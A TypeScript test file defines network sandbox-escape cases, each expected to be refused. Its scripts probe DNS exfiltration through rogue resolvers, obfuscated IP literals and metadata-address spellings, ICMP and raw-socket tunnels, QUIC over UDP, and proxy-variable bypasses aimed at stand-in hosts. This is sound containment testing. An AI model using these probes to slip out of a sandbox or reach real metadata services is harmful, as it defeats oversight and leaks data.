// Escape cases, network: other resolvers, DNS exfiltration, IP literals in
// every form a client accepts, UDP/QUIC, ICMP, raw and packet sockets, the
// metadata address, and proxy variables turned against the sandbox.
import { NONCE, type EscapeCase } from './escape-types.js';

const PY = 'need python3';
const net = (args: string) => `verdict python3 "$PROBES/net_probe.py" ${args}`;
const esc = (args: string) =>
  `verdict python3 "$PROBES/escape_probe.py" ${args}`;

/** "allowed" when any of the net_probe.py calls gets an answer. */
function anyOf(calls: readonly string[]): string {
  return [
    PY,
    'hit=1',
    ...calls.map((c) => `python3 "$PROBES/net_probe.py" ${c} && hit=0`),
    'verdict test "$hit" -eq 0',
  ].join('\n');
}

/** A case that passes when any of `urls` reaches host `label`, via proxy or directly. */
export function reachAny(
  c: Omit<EscapeCase, 'script'>,
  label: string,
  urls: readonly string[],
  curlArgs = '',
): EscapeCase {
  return {
    ...c,
    script: [
      'need curl',
      'hit=1',
      `for u in ${urls.map((u) => `"${u}"`).join(' ')}; do`,
      `  reaches_any_way ${label} "$u" ${curlArgs} && hit=0`,
      'done',
      'verdict test "$hit" -eq 0',
    ].join('\n'),
  };
}

const literal = (id: string, form: string, urls: string[]) =>
  reachAny(
    {
      id,
      description: `the outside host by an IP literal in ${form} form`,
      expected: 'refused',
      why: 'IP literals are judged as the address they mean; 198.18.0.20 is not allowed in any spelling',
    },
    'outside',
    urls,
  );

const UDP_ONLY_ALLOWED =
  'the policy allows TCP to listed destinations only; UDP is never forwarded, not even to an allowed host';

export const ESCAPE_NETWORK_CASES: readonly EscapeCase[] = [
  {
    id: 'esc-dns-rogue-udp6',
    description: 'DNS over UDP to a rogue resolver on its IPv6 address',
    expected: 'refused',
    why: 'DNS leaves the sandbox only through the engine (SRT: not at all)',
    script: `${PY}\n${net(`dns-udp 2001:db8:18::20 ${NONCE}-u6.exfil.test`)}`,
    after: { kind: 'dns', needle: `${NONCE}-u6` },
  },
  {
    id: 'esc-dns-rogue-tcp6',
    description: 'DNS over TCP to a rogue resolver on its IPv6 address',
    expected: 'refused',
    why: 'DNS leaves the sandbox only through the engine (SRT: not at all)',
    script: `${PY}\n${net(`dns-tcp 2001:db8:18::20 ${NONCE}-t6.exfil.test`)}`,
    after: { kind: 'dns', needle: `${NONCE}-t6` },
  },
  {
    id: 'esc-dns-instance-udp',
    description:
      "DNS over UDP to a resolver on the allowed instance's address (198.18.0.10)",
    expected: 'refused',
    why: `an allowed host is no tunnel for DNS: ${UDP_ONLY_ALLOWED}`,
    script: `${PY}\n${net(`dns-udp 198.18.0.10 ${NONCE}-iu.exfil.test`)}`,
    after: { kind: 'dns', needle: `${NONCE}-iu` },
  },
  {
    id: 'esc-dns-instance-tcp-literal',
    description:
      "DNS over TCP to the instance's IP literal, directly and through the SOCKS proxy",
    expected: 'refused',
    why: 'the instance is allowed by name; its IP literal is not an allowed destination',
    script: [
      PY,
      `n=${NONCE}-it.exfil.test`,
      'verdict eval \'python3 "$PROBES/net_probe.py" dns-tcp 198.18.0.10 $n || python3 "$PROBES/escape_probe.py" dns-socks 198.18.0.10 $n\'',
    ].join('\n'),
    after: { kind: 'dns', needle: `${NONCE}-it` },
  },
  {
    id: 'esc-dns-runner-resolver',
    description:
      "the runner's own resolver (198.18.0.53, 2001:db8:18::53) asked directly, UDP and TCP",
    expected: 'refused',
    why: "the runner's resolver would leak every name it is asked (exfiltration); only the engine may ask it, and only for allowed names",
    script: [
      PY,
      `n=${NONCE}-rr.outside.test`,
      'hit=1',
      'for s in 198.18.0.53 2001:db8:18::53; do for m in dns-udp dns-tcp; do',
      '  python3 "$PROBES/net_probe.py" $m $s $n && hit=0',
      'done; done',
      'verdict test "$hit" -eq 0',
    ].join('\n'),
    after: { kind: 'dns', needle: `${NONCE}-rr` },
  },
  {
    id: 'esc-dns-exfil-labels',
    description:
      'random labels under a refused zone, looked up by every tool an agent has, never reach a DNS server',
    expected: 'refused',
    why: 'a refused name is never resolved: the label would carry data out',
    script: [
      `n() { echo "$1-$$-${NONCE}-ex.outside.test"; }`,
      'ok=1',
      'getent hosts "$(n a)" && ok=0',
      'command -v python3 >/dev/null && python3 -c "import socket,sys; socket.getaddrinfo(sys.argv[1], 80)" "$(n b)" 2>/dev/null && ok=0',
      'command -v dig >/dev/null && dig +short +tries=1 +time=2 "$(n c)" | grep -qE "^[0-9a-f:.]+$" && ok=0',
      'command -v host >/dev/null && host -W 2 "$(n d)" >/dev/null 2>&1 && ok=0',
      'command -v nslookup >/dev/null && nslookup -timeout=2 "$(n e)" >/dev/null 2>&1 && ok=0',
      'command -v node >/dev/null && node -e "require(\'dns\').lookup(process.argv[1], e => process.exit(e ? 1 : 0))" "$(n f)" && ok=0',
      'curl -s --max-time 4 "http://$(n g)/" | grep -q fsbxt-host && ok=0',
      'curl -s --max-time 4 --noproxy "" -x "${FTP_PROXY:-socks5h://127.0.0.1:1}" "http://$(n h)/" | grep -q fsbxt-host && ok=0',
      'command -v git >/dev/null && git ls-remote "http://$(n i)/p.git" >/dev/null 2>&1 && ok=0',
      'verdict test "$ok" -eq 0',
    ].join('\n'),
    after: { kind: 'dns', needle: `${NONCE}-ex` },
  },
  literal('esc-ip-decimal', 'decimal', ['http://3323068436/']),
  literal('esc-ip-octal', 'octal', ['http://0306.022.0.024/']),
  literal('esc-ip-hex', 'hexadecimal', ['http://0xc6120014/']),
  literal('esc-ip-short', 'short (a.b.c)', ['http://198.18.20/']),
  literal('esc-ip-mixed', 'mixed hex, octal and decimal', [
    'http://0xc6.022.0.20/',
  ]),
  literal('esc-ip-mapped-v6', 'IPv4-mapped IPv6', [
    'http://[::ffff:198.18.0.20]/',
    'http://[::ffff:c612:14]/',
  ]),
  literal('esc-ip-v6-expanded', 'expanded, zero-padded IPv6', [
    'http://[2001:0db8:0018:0000:0000:0000:0000:0020]/',
  ]),
  {
    id: 'esc-quic-outside',
    description:
      'QUIC-style UDP 443 to the outside host, over IPv4 and IPv6, gets no echo',
    expected: 'refused',
    why: UDP_ONLY_ALLOWED,
    script: anyOf(['udp-echo 198.18.0.20 443', 'udp-echo 2001:db8:18::20 443']),
  },
  {
    id: 'esc-quic-instance',
    description: 'QUIC-style UDP 443 to the allowed instance host gets no echo',
    expected: 'refused',
    why: UDP_ONLY_ALLOWED,
    script: anyOf(['udp-echo 198.18.0.10 443', 'udp-echo 2001:db8:18::10 443']),
  },
  {
    id: 'esc-icmp-ping',
    description: 'an ICMP echo to the outside host gets a reply',
    expected: 'refused',
    why: 'ICMP is not an allowed protocol (ping tunnels carry data)',
    script: `${PY}\n${esc('icmp 198.18.0.20')}`,
  },
  {
    id: 'esc-raw-socket',
    description: 'a SOCK_RAW socket sends an ICMP echo and reads the reply',
    expected: 'refused',
    why: 'raw sockets bypass every port rule; the command has no CAP_NET_RAW',
    script: `${PY}\n${esc('raw-icmp 198.18.0.20')}`,
  },
  {
    id: 'esc-packet-socket',
    description: 'an AF_PACKET socket binds to a network interface',
    expected: 'refused',
    why: 'link-layer access would let the command forge any traffic',
    script: `${PY}\n${esc('packet')}`,
  },
  reachAny(
    {
      id: 'esc-metadata-forms',
      description:
        'the metadata address in other spellings (hex, decimal, mapped IPv6, a.b.c)',
      expected: 'refused',
      why: 'link-local addresses are never allowed, in any spelling',
    },
    'metadata',
    [
      'http://0xa9fea9fe/',
      'http://2852039166/',
      'http://[::ffff:169.254.169.254]/',
      'http://169.254.43518/',
    ],
  ),
  {
    id: 'esc-env-proxy-outside',
    description:
      'a proxy pointed at the outside host (curl -x, HTTP_PROXY for python urllib)',
    expected: 'refused',
    why: 'setting a proxy is a connection to that host, which is not allowed',
    script: [
      'need curl python3',
      'hit=1',
      "reaches outside http://gitlab.test/ -x http://198.18.0.20:80 --noproxy '' && hit=0",
      'HTTP_PROXY=http://198.18.0.20:80 http_proxy=http://198.18.0.20:80 python3 "$PROBES/http_probe.py" http://gitlab.test/ outside && hit=0',
      'verdict test "$hit" -eq 0',
    ].join('\n'),
  },
  {
    id: 'esc-env-no-proxy',
    description:
      'proxy variables unset and NO_PROXY=* to go direct to the outside host, by name and address',
    expected: 'refused',
    why: 'the proxy variables are a convenience, not the enforcement',
    script: [
      'need curl',
      'hit=1',
      'for u in http://outside.test/ http://198.18.0.20/ "http://[2001:db8:18::20]/"; do',
      '  direct env NO_PROXY="*" no_proxy="*" curl -sS --max-time 5 "$u" | grep -qx fsbxt-host=outside && hit=0',
      'done',
      'verdict test "$hit" -eq 0',
    ].join('\n'),
    neverQueried: ['outside.test'],
  },
];
